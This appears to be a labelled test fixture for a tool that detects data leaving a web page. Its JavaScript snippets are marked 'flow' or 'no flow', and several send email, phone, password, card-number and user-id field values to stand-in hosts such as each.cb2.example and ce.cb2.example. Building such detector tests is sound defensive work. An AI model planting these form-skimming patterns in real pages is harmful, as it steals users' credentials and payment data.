//# submit-handler
// flow: email > sub.cb2.example via fetch
// guard: event submit
document.querySelector('form').addEventListener('submit', function (e) {
  e.preventDefault();
  fetch('https://sub.cb2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
});

//# handler-never-registered
// no flow
// why: the function is neither called, registered nor exported
(function () {
  function onSubmit() {
    fetch('https://sub0.cb2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
  }
  document.querySelector('form').dataset.ready = '1';
})();

//# onclick-property
// flow: phone > clk.cb2.example via fetch
// guard: event click
document.getElementById('call').onclick = function () {
  fetch('https://clk.cb2.example/', { method: 'POST', body: document.querySelector('input[type=tel]').value });
};

//# onclick-cleared
// no flow
// why: the handler is replaced by null in the same run, before any click
const btn = document.getElementById('call');
btn.onclick = function () {
  fetch('https://clk0.cb2.example/', { method: 'POST', body: document.querySelector('input[type=tel]').value });
};
btn.onclick = null;

//# timeout-argument
// flow: identifier > tmo.cb2.example via beacon
// why: setTimeout passes its further arguments on
setTimeout(function (id) { navigator.sendBeacon('https://tmo.cb2.example/', id); }, 100, localStorage.getItem('uid'));

//# timeout-cleared
// no flow
// why: the timer is cleared before it can fire
const t = setTimeout(function () {
  navigator.sendBeacon('https://tmo0.cb2.example/', localStorage.getItem('uid'));
}, 1000);
clearTimeout(t);

//# for-each-fields
// flow: password > each.cb2.example via fetch
document.querySelectorAll('input[type=password]').forEach(function (el) {
  fetch('https://each.cb2.example/', { method: 'POST', body: el.value });
});

//# for-each-index
// no flow
// why: only the index is sent
document.querySelectorAll('input[type=password]').forEach(function (el, index) {
  fetch('https://each0.cb2.example/?i=' + index);
});

//# listener-removed
// no flow
// why: the same listener is removed in the same run
function onChange(e) {
  fetch('https://rm0.cb2.example/', { method: 'POST', body: e.target.value });
}
const field = document.querySelector('input[type=email]');
field.addEventListener('change', onChange);
field.removeEventListener('change', onChange);

//# remove-other-listener
// flow: email > rm.cb2.example via fetch
// why: a new function with the same text is another listener, so nothing is removed
// guard: event change
const fl = document.querySelector('input[type=email]');
fl.addEventListener('change', (e) => fetch('https://rm.cb2.example/', { method: 'POST', body: e.target.value }));
fl.removeEventListener('change', (e) => fetch('https://rm.cb2.example/', { method: 'POST', body: e.target.value }));

//# custom-event-detail
// flow: card > ce.cb2.example via fetch
document.addEventListener('card-ready', function (e) {
  fetch('https://ce.cb2.example/', { method: 'POST', body: e.detail });
});
document.dispatchEvent(new CustomEvent('card-ready', {
  detail: document.querySelector('input[autocomplete=cc-number]').value,
}));

//# custom-event-other-name
// no flow
// why: the listener waits for another event, whose detail is fixed
document.addEventListener('card-shown', function (e) {
  fetch('https://ce0.cb2.example/', { method: 'POST', body: e.detail });
});
document.dispatchEvent(new CustomEvent('card-ready', { detail: document.querySelector('input[autocomplete=cc-number]').value }));
document.dispatchEvent(new CustomEvent('card-shown', { detail: 'yes' }));

//# handle-event-object
// flow: search > he.cb2.example via fetch
// guard: event input
const watcher = {
  handleEvent(e) { fetch('https://he.cb2.example/?q=' + encodeURIComponent(e.target.value)); },
};
document.querySelector('input[type=search]').addEventListener('input', watcher);

//# own-callback-second-argument
// no flow
// why: the callback sends its first argument, the field is the second
function withField(cb) { cb(null, document.querySelector('input[type=search]').value); }
withField(function (err, q) { if (err) fetch('https://err0.cb2.example/?e=' + err); });

//# event-type-sent
// no flow
// why: the name of the event is sent, not what was typed
document.querySelector('input[type=email]').addEventListener('focus', function (e) {
  fetch('https://et0.cb2.example/?t=' + e.type);
});

//# filter-callback-drops-all
// no flow
// why: the filter leaves nothing over
const kept = [document.querySelector('input[type=tel]').value].filter(() => false);
fetch('https://fi0.cb2.example/', { method: 'POST', body: kept.join() });
